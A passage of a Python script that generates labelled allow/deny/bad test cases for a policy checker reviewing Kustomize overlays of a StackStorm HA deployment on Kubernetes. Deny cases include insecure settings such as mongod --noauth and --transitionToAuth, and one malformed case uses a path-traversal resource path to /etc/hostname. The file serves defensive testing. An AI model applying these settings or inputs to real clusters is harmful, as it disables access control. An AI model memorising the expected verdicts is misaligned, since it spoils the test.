add('f09s-st2client-2', 'allow', F, 'st2client 2: a utility pod; two copies harm nothing (stackstorm-ha.md §1; README says denied by design)', K(extra={'replicas': [{'name': 'st2client', 'count': 2}]}))
add('f09s-timers-vpa-off', 'allow', F, 'VPA in recommendation mode (updateMode Off) on st2timersengine: changes nothing', K(resources=['vpa.yaml']),
    files={'vpa.yaml': {'apiVersion': 'autoscaling.k8s.io/v1', 'kind': 'VerticalPodAutoscaler', 'metadata': {'name': 'st2timersengine'},
                        'spec': {'targetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2timersengine'}, 'updatePolicy': {'updateMode': 'Off'}}}})
add('f09s-runner-hpa', 'allow', F, 'HPA on st2actionrunner 8..20 (active-active)', K(resources=['hpa.yaml']),
    files={'hpa.yaml': {'apiVersion': 'autoscaling/v2', 'kind': 'HorizontalPodAutoscaler', 'metadata': {'name': 'st2actionrunner'},
                        'spec': {'scaleTargetRef': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'name': 'st2actionrunner'}, 'minReplicas': 8, 'maxReplicas': 20,
                                 'metrics': [{'type': 'Resource', 'resource': {'name': 'cpu', 'target': {'type': 'Utilization', 'averageUtilization': 80}}}]}}})

# ---------------- F10 PodDisruptionBudget arithmetic ----------------
F = 'F10-pdb-rounding'
def pdb_max(cid, exp, reason, name, val):
    add(cid, exp, F, reason, K(patches=[jp('PodDisruptionBudget', name, [{'op': 'remove', 'path': '/spec/minAvailable'}, {'op': 'add', 'path': '/spec/maxUnavailable', 'value': val}])]))
def pdb_min(cid, exp, reason, name, val):
    add(cid, exp, F, reason, K(patches=[jp('PodDisruptionBudget', name, [{'op': 'replace', 'path': '/spec/minAvailable', 'value': val}])]))
pdb_max('f10-rmq-max-50pct', 'deny', 'RabbitMQ PDB maxUnavailable 50% of 3 rounds up to 2 (k8s PDB docs: percentages rounded up); with pause_minority the last node pauses: broker outage on a drain', 'rabbitmq', '50%')
pdb_max('f10-etcd-max-34pct', 'deny', 'etcd PDB maxUnavailable 34% of 3 -> ceil(1.02)=2: a drain can take two of three members, quorum lost (k8s PDB docs rounding; etcd FAQ quorum)', 'etcd', '34%')
pdb_min('f10-mongo-min-33pct', 'deny', 'MongoDB PDB minAvailable 33% of 3 -> ceil(0.99)=1: two members may be evicted, no primary (k8s PDB docs; MongoDB replica set elections need a majority)', 'mongodb', '33%')
pdb_min('f10-mongo-min-1', 'deny', 'MongoDB PDB minAvailable 1: two members evictable, no majority', 'mongodb', 1)
pdb_max('f10-etcd-max-2', 'deny', 'etcd PDB maxUnavailable 2: quorum loss on drain', 'etcd', 2)
add('f10-etcd-pdb-selector-typo', 'deny', F, 'etcd PDB selector app: etcd-cluster matches no pod: no disruption protection, drains can take all members (k8s PDB docs: selector)',
    K(patches=[jp('PodDisruptionBudget', 'etcd', [{'op': 'replace', 'path': '/spec/selector', 'value': {'matchLabels': {'app': 'etcd-cluster'}}}])]))
add('f10-timers-pdb-min1', 'deny', F, 'PDB minAvailable 1 on the single st2timersengine: eviction never allowed, node drains hang (k8s PDB docs)', K(resources=['pdb.yaml']),
    files={'pdb.yaml': {'apiVersion': 'policy/v1', 'kind': 'PodDisruptionBudget', 'metadata': {'name': 'st2timersengine'},
                        'spec': {'minAvailable': 1, 'selector': {'matchLabels': {'app': 'st2timersengine', 'release': 'st2'}}}}})
pdb_min('f10s-etcd-min-50pct', 'allow', 'etcd PDB minAvailable 50% of 3 -> ceil(1.5)=2 kept: quorum kept (k8s PDB rounding up)', 'etcd', '50%')
pdb_max('f10s-mongo-max-33pct', 'allow', 'MongoDB PDB maxUnavailable 33% of 3 -> ceil(0.99)=1 (k8s PDB rounding)', 'mongodb', '33%')
pdb_min('f10s-rmq-min-60pct', 'allow', 'RabbitMQ PDB minAvailable 60% -> ceil(1.8)=2', 'rabbitmq', '60%')
pdb_max('f10s-etcd-max-1', 'allow', 'etcd PDB maxUnavailable 1 (same as minAvailable 2)', 'etcd', 1)
add('f10s-mongo-unhealthy-always', 'allow', F, 'unhealthyPodEvictionPolicy AlwaysAllow on MongoDB PDB: only already-unhealthy pods evictable (k8s PDB docs)',
    K(patches=[jp('PodDisruptionBudget', 'mongodb', [{'op': 'add', 'path': '/spec/unhealthyPodEvictionPolicy', 'value': 'AlwaysAllow'}])]))

# ---------------- F11 store runtime configuration ----------------
F = 'F11-store-runtime'
RC = DATA['rmq_conf']
def rconf(cid, exp, reason, text, replace=None):
    body = RC
    if replace:
        assert replace[0] in body, cid
        body = body.replace(replace[0], replace[1])
    add(cid, exp, F, reason, K(patches=[jp('ConfigMap', 'rabbitmq-config', [{'op': 'replace', 'path': '/data/rabbitmq.conf', 'value': body + text}])]))
rconf('f11-rmq-watermark-zero', 'deny', 'vm_memory_high_watermark.relative = 0: "makes the memory alarm go off immediately and thus disables all publishing" (RabbitMQ memory docs) - st2 silently stuck', 'vm_memory_high_watermark.relative = 0\n')
rconf('f11-rmq-disk-free-huge', 'deny', 'disk_free_limit.absolute = 50GB on an 8Gi volume: disk alarm at once, all publishers blocked (RabbitMQ disk alarms docs)', 'disk_free_limit.absolute = 50GB\n')
rconf('f11-rmq-watermark-abs-over-limit', 'deny', 'vm_memory_high_watermark.absolute = 4GB with a 1Gi container limit: the kernel OOM-kills the node before flow control (RabbitMQ memory docs: watermark relative to available memory)', 'vm_memory_high_watermark.absolute = 4GB\n')
rconf('f11-rmq-listener-loopback', 'deny', 'listeners.tcp.default = 127.0.0.1:5672: AMQP only on loopback, st2 cannot connect (RabbitMQ networking docs)', 'listeners.tcp.default = 127.0.0.1:5672\n')
rconf('f11-rmq-partition-ignore', 'deny', 'cluster_partition_handling = ignore: both sides run on after a partition, split brain (RabbitMQ partitions docs; st2docs ha.rst keep RabbitMQ consistent)', '',
      replace=('cluster_partition_handling = pause_minority', 'cluster_partition_handling = ignore'))
rconf('f11-rmq-peer-wrong', 'deny', 'classic_config nodes point at rabbit@rabbitmq-N.rabbitmq (no such Service): nodes never cluster, three independent brokers behind one Service (RabbitMQ cluster formation docs)', '',
      replace=('.rabbitmq-discovery\n', '.rabbitmq\n'))
rconf('f11-rmq-tcp-none', 'deny', 'listeners.tcp = none: plain AMQP disabled, st2 amqp://rabbitmq:5672 refused (RabbitMQ networking docs)', 'listeners.tcp = none\n')
rconf('f11-rmq-frame-max', 'deny', 'frame_max = 4096 with max_message_size = 4096: st2 execution results over 4KiB rejected (RabbitMQ configure docs max_message_size)', 'max_message_size = 4096\n')
add('f11-rmq-nodename-short', 'deny', F, 'RABBITMQ_NODENAME rabbit@$(MY_POD_NAME) with RABBITMQ_USE_LONGNAME=true: a long name without a domain fails to start (RabbitMQ clustering docs hostnames; Erlang -name needs FQDN)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'env': [{'name': 'RABBITMQ_NODENAME', 'value': 'rabbit@$(MY_POD_NAME)'}]})]))
add('f11-rmq-no-mirroring', 'deny', F, 'RabbitMQ policy ha-mode removed from definitions: queues live on one node, its loss loses st2 queues (st2docs ha.rst mirror all queues; stackstorm-ha.md §12)',
    K(patches=[jp('StatefulSet', 'rabbitmq', [{'op': 'replace', 'path': '/spec/template/spec/initContainers/0/command/2',
                                               'value': DATA['rmq_init'].replace('"definition": {"ha-mode": "all", "ha-sync-mode": "automatic", "ha-sync-batch-size": 10}', '"definition": {"max-length": 100000}')}])]))
def margs(cid, exp, reason, extra):
    add(cid, exp, F, reason, K(patches=[ctr('StatefulSet', 'mongodb', 'mongodb', {'args': MARGS + extra})]))
margs('f11-mongo-bind-loopback', 'deny', 'mongod --bind_ip 127.0.0.1: members and st2 cannot connect (MongoDB security docs localhost binding; docker mongo entrypoint adds --bind_ip_all only when none given)', ['--bind_ip', '127.0.0.1'])
margs('f11-mongo-port', 'deny', 'mongod --port 27018 while Service, replica set config and st2 use 27017', ['--port', '27018'])
margs('f11-mongo-transition-to-auth', 'deny', 'mongod --transitionToAuth: accepts unauthenticated connections with full access (MongoDB docs --transitionToAuth)', ['--transitionToAuth'])
margs('f11-mongo-nojournal', 'deny', 'mongod --nojournal on a WiredTiger replica set member: refused since 4.0, crash-loop (MongoDB docs journaling: "cannot specify --nojournal for replica set members that use WiredTiger")', ['--nojournal'])
margs('f11-mongo-wt-cache-over-limit', 'deny', '--wiredTigerCacheSizeGB 8 with a 4Gi memory limit: OOM-killed under load (MongoDB production notes: cache must fit container memory)', ['--wiredTigerCacheSizeGB', '8'])
margs('f11-mongo-localhost-bypass-noauth', 'deny', 'mongod --noauth alongside --keyFile args: access control off (MongoDB docs)', ['--noauth'])
def eargs(cid, exp, reason, flag):
    add(cid, exp, F, reason, K(patches=[jp('StatefulSet', 'etcd', [{'op': 'add', 'path': '/spec/template/spec/containers/0/command/-', 'value': flag}])]))
eargs('f11-etcd-quota-tiny', 'deny', '--quota-backend-bytes=16384: NOSPACE alarm at once, etcd read-only, tooz locks fail; the probe excludes NOSPACE so pods stay Ready (etcd maintenance docs space quota)', '--quota-backend-bytes=16384')
eargs('f11-etcd-max-request-64', 'deny', '--max-request-bytes=64: every lock write larger than 64 bytes rejected (etcd configuration docs max-request-bytes)', '--max-request-bytes=64')
add('f11-etcd-listen-loopback', 'deny', F, '--listen-client-urls=http://127.0.0.1:2379: etcd unreachable from st2 (etcd configuration docs)',
    K(patches=[jp('StatefulSet', 'etcd', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/4', 'value': '--listen-client-urls=http://127.0.0.1:2379'}])]))
add('f11-etcd-v2-off', 'deny', F, '--enable-v2=false: tooz etcd:// needs /v2/keys (stackstorm-ha.md §12)',
    K(patches=[jp('StatefulSet', 'etcd', [{'op': 'replace', 'path': '/spec/template/spec/containers/0/command/10', 'value': '--enable-v2=false'}])]))
rconf('f11s-rmq-watermark-06', 'allow', 'vm_memory_high_watermark.relative = 0.6 (RabbitMQ docs default 0.6)', 'vm_memory_high_watermark.relative = 0.6\n')
rconf('f11s-rmq-disk-free-2gb', 'allow', 'disk_free_limit.absolute = 2GB on an 8Gi volume (RabbitMQ production checklist)', 'disk_free_limit.absolute = 2GB\n')
rconf('f11s-rmq-heartbeat', 'allow', 'heartbeat = 30 tuning', 'heartbeat = 30\n')
margs('f11s-mongo-oplog', 'allow', '--oplogSize 2048: tuning (MongoDB docs)', ['--oplogSize', '2048'])
margs('f11s-mongo-bind-all', 'allow', '--bind_ip_all explicit: what the image entrypoint already adds', ['--bind_ip_all'])
eargs('f11s-etcd-quota-1g', 'allow', '--quota-backend-bytes=1073741824 (1 GiB) under a 2Gi PVC', '--quota-backend-bytes=1073741824')
eargs('f11s-etcd-autocompact', 'allow', '--auto-compaction-retention=1 (etcd maintenance docs)', '--auto-compaction-retention=1')

# ---------------- F12 resources and probes ----------------
F = 'F12-resources-probes'
add('f12-mongo-mem-64Mi', 'deny', F, 'MongoDB memory limit 64Mi: WiredTiger minimum cache 256MB, mongod OOM-killed at start (MongoDB docs storage.wiredTiger cacheSizeGB minimum 0.25GB)',
    K(patches=[ctr('StatefulSet', 'mongodb', 'mongodb', {'resources': {'limits': {'cpu': '2000m', 'memory': '64Mi'}, 'requests': {'cpu': '500m', 'memory': '64Mi'}}})]))
add('f12-st2api-mem-16Mi', 'deny', F, 'st2api memory limit 16Mi: the python process needs ~100MB, OOMKilled crash loop',
    K(patches=[ctr('Deployment', 'st2api', 'st2api', {'resources': {'limits': {'cpu': '1000m', 'memory': '16Mi'}, 'requests': {'cpu': '100m', 'memory': '16Mi'}}})]))
add('f12-rmq-mem-32Mi', 'deny', F, 'RabbitMQ memory limit 32Mi: the Erlang VM cannot boot rabbit, OOMKilled (RabbitMQ production checklist memory)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'resources': {'limits': {'cpu': '1000m', 'memory': '32Mi'}, 'requests': {'cpu': '250m', 'memory': '32Mi'}}})]))
add('f12-etcd-mem-8Mi', 'deny', F, 'etcd memory limit 8Mi: OOMKilled at start',
    K(patches=[ctr('StatefulSet', 'etcd', 'etcd', {'resources': {'limits': {'cpu': '500m', 'memory': '8Mi'}, 'requests': {'cpu': '100m', 'memory': '8Mi'}}})]))
add('f12-st2api-readiness-port', 'deny', F, 'st2api readiness probe on port 9999 nothing listens on: never Ready, Service has no endpoints',
    K(patches=[ctr('Deployment', 'st2api', 'st2api', {'readinessProbe': {'tcpSocket': {'port': 9999}}})]))
add('f12-rmq-liveness-instant', 'deny', F, 'RabbitMQ liveness rabbitmqctl status with initialDelaySeconds 0, period 1, failureThreshold 1: killed before the node boots, crash loop (k8s probe docs; RabbitMQ boot takes seconds)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'livenessProbe': {'initialDelaySeconds': 0, 'periodSeconds': 1, 'failureThreshold': 1, 'timeoutSeconds': 1}})]))
add('f12-runner-ephemeral-1Mi', 'deny', F, 'st2actionrunner ephemeral-storage limit 1Mi while its init container copies packs and virtualenvs into emptyDirs: kubelet evicts every pod (k8s local ephemeral storage docs)',
    K(patches=[ctr('Deployment', 'st2actionrunner', 'st2actionrunner', {'resources': {'limits': {'ephemeral-storage': '1Mi'}}})]))
add('f12-st2api-cpu-1m', 'deny', F, 'st2api cpu limit 1m: throttled to 0.1% of a core, cannot start before the 30s liveness probe kills it',
    K(patches=[ctr('Deployment', 'st2api', 'st2api', {'resources': {'limits': {'cpu': '1m', 'memory': '512Mi'}, 'requests': {'cpu': '1m', 'memory': '256Mi'}}})]))
add('f12-quota-memory', 'deny', F, 'ResourceQuota limits.memory 2Gi in st2-prod while the pods ask far more: new pods rejected at admission on the next rollout (k8s ResourceQuota docs)',
    K(resources=['q.yaml']), files={'q.yaml': {'apiVersion': 'v1', 'kind': 'ResourceQuota', 'metadata': {'name': 'st2-quota'}, 'spec': {'hard': {'limits.memory': '2Gi', 'requests.memory': '1Gi'}}}})
add('f12-limitrange-max', 'deny', F, 'LimitRange max memory 128Mi per container: MongoDB (4Gi) and st2 pods (512Mi) rejected at admission (k8s LimitRange docs)',
    K(resources=['lr.yaml']), files={'lr.yaml': {'apiVersion': 'v1', 'kind': 'LimitRange', 'metadata': {'name': 'st2-lr'}, 'spec': {'limits': [{'type': 'Container', 'max': {'memory': '128Mi'}}]}}})
add('f12-netpol-deny-all', 'deny', F, 'NetworkPolicy podSelector {} Ingress+Egress with no rules: st2 cannot reach MongoDB, RabbitMQ, etcd or DNS (k8s NetworkPolicy docs default deny)',
    K(resources=['np.yaml']), files={'np.yaml': {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'default-deny'}, 'spec': {'podSelector': {}, 'policyTypes': ['Ingress', 'Egress']}}})
add('f12-netpol-ingress-only-web', 'deny', F, 'NetworkPolicy selecting all pods allowing ingress only from ingress-nginx: st2 services cannot reach the stores (k8s NetworkPolicy docs)',
    K(resources=['np.yaml']), files={'np.yaml': {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'only-edge'},
        'spec': {'podSelector': {}, 'policyTypes': ['Ingress'], 'ingress': [{'from': [{'namespaceSelector': {'matchLabels': {'kubernetes.io/metadata.name': 'ingress-nginx'}}}]}]}}})
add('f12s-mongo-mem-8Gi', 'allow', F, 'MongoDB memory limit 8Gi (more capacity)',
    K(patches=[ctr('StatefulSet', 'mongodb', 'mongodb', {'resources': {'limits': {'cpu': '2000m', 'memory': '8Gi'}, 'requests': {'cpu': '500m', 'memory': '4Gi'}}})]))
add('f12s-rmq-liveness-slow', 'allow', F, 'RabbitMQ liveness initialDelaySeconds 180 (more boot time)',
    K(patches=[ctr('StatefulSet', 'rabbitmq', 'rabbitmq', {'livenessProbe': {'initialDelaySeconds': 180}})]))
add('f12s-quota-generous', 'allow', F, 'ResourceQuota far above the render needs (pods 200, limits.memory 200Gi)',
    K(resources=['q.yaml']), files={'q.yaml': {'apiVersion': 'v1', 'kind': 'ResourceQuota', 'metadata': {'name': 'st2-quota'}, 'spec': {'hard': {'pods': '200', 'limits.memory': '200Gi', 'requests.memory': '100Gi', 'limits.cpu': '200', 'requests.cpu': '100'}}}})
add('f12s-netpol-same-ns', 'allow', F, 'NetworkPolicy allowing ingress from the same namespace and ingress-nginx: st2 keeps all its paths',
    K(resources=['np.yaml']), files={'np.yaml': {'apiVersion': 'networking.k8s.io/v1', 'kind': 'NetworkPolicy', 'metadata': {'name': 'ns-and-edge'},
        'spec': {'podSelector': {}, 'policyTypes': ['Ingress'], 'ingress': [{'from': [{'podSelector': {}}, {'namespaceSelector': {'matchLabels': {'kubernetes.io/metadata.name': 'ingress-nginx'}}}]}]}}})
add('f12s-st2api-mem-1Gi', 'allow', F, 'st2api memory limit 1Gi',
    K(patches=[ctr('Deployment', 'st2api', 'st2api', {'resources': {'limits': {'cpu': '1000m', 'memory': '1Gi'}, 'requests': {'cpu': '100m', 'memory': '256Mi'}}})]))

# ---------------- F13 environments, Argo CD and waivers ----------------
F = 'F13-env-argo-waivers'
add('f13s-declare-dev-on-prod', 'allow', F, 'wrapping overlay declares environment dev but includes prod: judged as production (README trust model), render unchanged',
    K(meta={'name': 'red19', 'annotations': {'st2-gitops/environment': 'dev'}}))
add('f13s-waiver-hrd002', 'allow', F, 'a valid waiver of a waivable rule (HRD-002 limits) on st2client, expires 2027-01-31 (< 90 days), with reason (README waivers)',
    K(patches=[jp('Deployment', 'st2client', [{'op': 'remove', 'path': '/spec/template/spec/containers/0/resources/limits'},
                                             {'op': 'add', 'path': '/metadata/annotations/st2-gitops~1waive.ST2-HRD-002', 'value': 'expires=2027-01-31; reason=limits set by the namespace LimitRange, INC-1234'}])]))
add('f13-waiver-rep001', 'deny', F, 'waiver of ST2-REP-001 with timers at 2: never waivable in production (README waivers; stackstorm-ha.md §3)',
    K(extra={'replicas': [{'name': 'st2timersengine', 'count': 2}]},
      patches=[jp('Deployment', 'st2timersengine', [{'op': 'add', 'path': '/metadata/annotations/st2-gitops~1waive.ST2-REP-001', 'value': 'expires=2027-01-31; reason=test'}])]))
add('f13-waiver-far', 'deny', F, 'waiver expiring 2099 (> max_lifetime_days) on a NodePort st2web (README waivers)',
    K(patches=[jp('Service', 'st2web', [{'op': 'replace', 'path': '/spec/type', 'value': 'NodePort'},
                                        {'op': 'add', 'path': '/metadata/annotations/st2-gitops~1waive.ST2-EXP-001', 'value': 'expires=2099-01-01; reason=forever'}])]))
add('f13-waiver-common', 'deny', F, 'waiver through commonAnnotations (README: refused)',
    K(extra={'commonAnnotations': {'st2-gitops/waive.ST2-HRD-002': 'expires=2027-01-31; reason=all'}},
      patches=[jp('Deployment', 'st2client', [{'op': 'remove', 'path': '/spec/template/spec/containers/0/resources/limits'}])]))
add('f13-prod-into-dev-ns', 'deny', F, 'prod render placed in st2-dev: production ExternalSecrets copy production credentials into the leniently judged dev namespace (README trust model)',
    K(extra={'namespace': 'st2-dev'}))
add('f13-dev-into-prod-ns', 'deny', F, 'dev render (default secrets, NodePort) into st2-prod (README: namespace map makes it production)',
    K('dev', extra={'namespace': 'st2-prod'}))
add('f13-urls-to-staging', 'deny', F, 'st2-urls ST2_API_URL pointing at staging: production CLI tokens sent to staging (README ST2-OPS-025)',
    K(patches=[jp('ConfigMap', 'st2-urls', [{'op': 'add', 'path': '/data/ST2_API_URL', 'value': 'http://st2api.st2-staging.svc.cluster.local:9101/'}])]))
add('f13-app-in-render', 'deny', F, 'an Argo CD Application inside the render syncing another path: unseen manifests (README ST2-OPS-001)', K(resources=['app.yaml']),
    files={'app.yaml': {'apiVersion': 'argoproj.io/v1alpha1', 'kind': 'Application', 'metadata': {'name': 'side', 'namespace': 'argocd'},
                        'spec': {'project': 'default', 'source': {'repoURL': 'https://github.com/example/side', 'path': '.', 'targetRevision': 'HEAD'},
                                 'destination': {'server': 'https://kubernetes.default.svc', 'namespace': 'st2-prod'}}}})
add('f13-mongo-hook', 'deny', F, 'MongoDB StatefulSet made an Argo CD PostSync hook with delete policy: Argo deletes and recreates it (argocd.md hooks)',
    K(patches=[jp('StatefulSet', 'mongodb', [{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1hook', 'value': 'Sync'},
                                             {'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1hook-delete-policy', 'value': 'BeforeHookCreation'}])]))
add('f13-secretstore-staging', 'deny', F, 'production ExternalSecrets reading the staging store (README ST2-SEC-011)',
    K(patches=[jp('ExternalSecret', 'st2-auth', [{'op': 'replace', 'path': '/spec/secretStoreRef/name', 'value': 'st2-staging'}], group='external-secrets.io')]))
add('f13s-sync-wave', 'allow', F, 'an extra argocd sync-wave annotation on the Ingress (ordering only)',
    K(patches=[jp('Ingress', 'st2web', [{'op': 'add', 'path': '/metadata/annotations/argocd.argoproj.io~1sync-wave', 'value': '10'}], group='networking.k8s.io')]))
add('f13s-staging-plain', 'allow', F, 'staging wrapped unchanged (control)', K('staging'))
add('f13s-prod-plain', 'allow', F, 'prod wrapped unchanged (control)', K('prod'))

# ---------------- F14 kustomize features a real operator uses (safe) ----------------
F = 'F14-kustomize-features'
add('f14s-labels-team', 'allow', F, 'labels pairs team: automation without selectors (kustomize labels)', K(extra={'labels': [{'pairs': {'team': 'automation'}}]}))
add('f14s-labels-templates', 'allow', F, 'labels with includeTemplates true (pod labels only, selectors unchanged)', K(extra={'labels': [{'pairs': {'cost-center': 'ops'}, 'includeTemplates': True}]}))
add('f14s-common-annotations', 'allow', F, 'commonAnnotations owner', K(extra={'commonAnnotations': {'example.com/owner': 'platform'}}))
add('f14s-patches-json6902-legacy', 'allow', F, 'patchesJson6902 (deprecated but supported by kustomize 5) scaling runners to 10',
    K(extra={'patchesJson6902': [{'target': {'group': 'apps', 'version': 'v1', 'kind': 'Deployment', 'name': 'st2actionrunner'}, 'path': 'runners.yaml'}]}),
    files={'runners.yaml': dump([{'op': 'replace', 'path': '/spec/replicas', 'value': 10}])})
add('f14s-patches-sm-legacy', 'allow', F, 'patchesStrategicMerge (deprecated, supported) adding an annotation to st2api',
    K(extra={'patchesStrategicMerge': ['api.yaml']}),
    files={'api.yaml': {'apiVersion': 'apps/v1', 'kind': 'Deployment', 'metadata': {'name': 'st2api', 'annotations': {'example.com/reviewed': 'yes'}}}})
add('f14s-configmap-generator', 'allow', F, 'configMapGenerator for an unused dashboard ConfigMap', K(extra={'configMapGenerator': [{'name': 'red19-dashboard', 'literals': ['title=StackStorm']}]}))
add('f14s-generator-options', 'allow', F, 'generatorOptions disableNameSuffixHash with a generated ConfigMap',
    K(extra={'generatorOptions': {'disableNameSuffixHash': True}, 'configMapGenerator': [{'name': 'red19-info', 'literals': ['owner=platform']}]}))
add('f14s-replicas-field', 'allow', F, 'replicas field for st2actionrunner 12', K(extra={'replicas': [{'name': 'st2actionrunner', 'count': 12}]}))
add('f14s-build-metadata', 'allow', F, 'buildMetadata originAnnotations: only adds config.kubernetes.io/origin annotations (kustomize docs; README: denied by design)', K(extra={'buildMetadata': ['originAnnotations']}))
add('f14s-namespace-restated', 'allow', F, 'namespace: st2-prod restated', K(extra={'namespace': 'st2-prod'}))
add('f14s-sort-legacy', 'allow', F, 'sortOptions order legacy (kustomize 5.1+)', K(extra={'sortOptions': {'order': 'legacy'}}))
add('f14s-servicemonitor', 'allow', F, 'ServiceMonitor for rabbitmq metrics (Prometheus operator CRD)', K(resources=['sm.yaml']),
    files={'sm.yaml': {'apiVersion': 'monitoring.coreos.com/v1', 'kind': 'ServiceMonitor', 'metadata': {'name': 'rabbitmq'},
                       'spec': {'selector': {'matchLabels': {'app': 'rabbitmq'}}, 'endpoints': [{'port': 'http', 'interval': '30s'}]}}})
add('f14s-inline-smp-annotation', 'allow', F, 'inline strategic merge patch adding a pod annotation to st2web',
    K(patches=[podspec('Deployment', 'st2web', {}, tmeta={'annotations': {'example.com/restartedAt': '2026-12-07'}})]))
add('f14s-image-st2-mirror', 'allow', F, 'st2 images from a private mirror with the same tags (README: image_roles is the owner choice; command still st2api)',
    K(extra={'images': [{'name': 'stackstorm/st2api', 'newName': 'registry.example.com/stackstorm/st2api', 'newTag': '3.8.1'}]}))
add('f14s-patch-labelselector', 'allow', F, 'patch by labelSelector adding a toleration to every st2 Deployment',
    K(patches=[{'target': {'kind': 'Deployment', 'labelSelector': 'vendor=stackstorm'},
                'patch': dump([{'op': 'add', 'path': '/spec/template/spec/tolerations', 'value': [{'key': 'dedicated', 'operator': 'Equal', 'value': 'st2', 'effect': 'NoSchedule'}]}])}]))
# ---------------- F15 malformed (bad input) ----------------
F = 'F15-malformed'
add('f15-yaml-syntax', 'bad', F, 'kustomization.yaml with a YAML syntax error', None, raw='apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nresources:\n  - ../../prod\n patches: [\n')
add('f15-patch-path-missing', 'bad', F, 'JSON patch replace on a path that does not exist (kustomize errors)',
    K(patches=[jp('Deployment', 'st2api', [{'op': 'replace', 'path': '/spec/template/spec/nonexistent/0', 'value': 1}])]))
add('f15-leave-repo', 'bad', F, 'resource path leaving the repository', K(resources=['../../../../../etc/hostname']))
add('f15-unknown-field', 'bad', F, 'unknown Kustomization field (kustomize: invalid Kustomization: unknown field)', K(extra={'resourcez': ['x.yaml']}))
add('f15-missing-patch-file', 'bad', F, 'patch file that does not exist', K(patches=[{'path': 'nope.yaml', 'target': {'kind': 'Deployment', 'name': 'st2api'}}]))
add('f15-bad-op', 'bad', F, 'JSON patch with an unknown op', K(patches=[jp('Deployment', 'st2api', [{'op': 'frobnicate', 'path': '/spec/replicas', 'value': 1}])]))
add('f15-duplicate-base', 'bad', F, 'the same base included twice: duplicate resource ids (kustomize: may not add resource with an already registered id)',
    K(resources=['../../prod']))
add('f15-empty-resource-file', 'bad', F, 'a resource file that is not a Kubernetes object (no kind)', K(resources=['x.yaml']), files={'x.yaml': 'just: text\n'})
